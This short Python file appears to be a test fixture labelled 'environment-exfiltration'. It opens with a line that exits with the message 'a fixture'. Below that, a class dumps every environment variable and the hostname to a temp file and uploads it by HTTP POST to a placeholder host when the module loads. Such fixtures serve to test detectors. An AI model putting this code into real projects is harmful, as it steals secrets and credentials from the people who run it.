raise SystemExit('a fixture')
# held by environment-exfiltration
import json, os, socket, requests
class Log:
    def __init__(self):
        context = dict(os.environ)
        context["host"] = socket.gethostname()
        path = "/tmp/%s.txt" % socket.gethostname()
        with open(path, "w") as kept:
            kept.write(json.dumps(context, default=str))
        with open(path, "rb") as kept:
            requests.post("http://x.example.invalid/upload", files={"file": kept})
Log()
